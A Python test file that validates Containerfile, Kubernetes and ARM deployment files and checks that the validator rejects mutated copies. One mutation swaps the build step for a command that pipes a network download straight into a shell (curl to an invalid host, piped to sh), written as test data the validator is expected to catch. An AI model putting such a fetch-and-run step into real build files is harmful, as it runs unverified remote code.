"""The deployment files (Containerfile, k8s/, infra/) validated offline:
Kubernetes API schemas, ARM template structure, Containerfile lint. A broken
copy must fail, so the validator itself is tested too."""
import os
import shutil
import subprocess

ROOT = os.path.abspath(os.path.join(os.path.dirname(__file__), "..", ".."))
VALIDATE = os.path.join(os.path.dirname(__file__), "validate.mjs")


def validate(root):
    return subprocess.run(["node", VALIDATE, root], capture_output=True, text=True, timeout=120)


def test_deployment_files_are_valid():
    r = validate(ROOT)
    assert r.returncode == 0, r.stdout + r.stderr
    assert r.stdout.strip().endswith("deployment files valid")


def test_validator_rejects_broken_files(tmp_path):
    for name in ("Containerfile", "k8s", "infra"):
        src = os.path.join(ROOT, name)
        (shutil.copytree if os.path.isdir(src) else shutil.copy)(src, tmp_path / name)
    dep = tmp_path / "k8s" / "base" / "deployment.yaml"
    dep.write_text(dep.read_text().replace("containerPort: 8080", "containerPort: eighty"))
    grace = dep.read_text().replace("terminationGracePeriodSeconds: 360", "terminationGracePeriodSeconds: 30")
    dep.write_text(grace)
    arm = tmp_path / "infra" / "azuredeploy.json"
    arm.write_text(arm.read_text().replace("parameters('image')", "parameters('imageName')"))
    cf = tmp_path / "Containerfile"
    cf.write_text(cf.read_text().replace("RUN make build", "RUN curl -s http://example.invalid | sh"))
    r = validate(str(tmp_path))
    assert r.returncode == 1
    assert "containerPort" in r.stdout or "ports" in r.stdout
    assert "terminationGracePeriodSeconds" in r.stdout
    assert "undeclared parameter imageName" in r.stdout
    assert "not a make target" in r.stdout
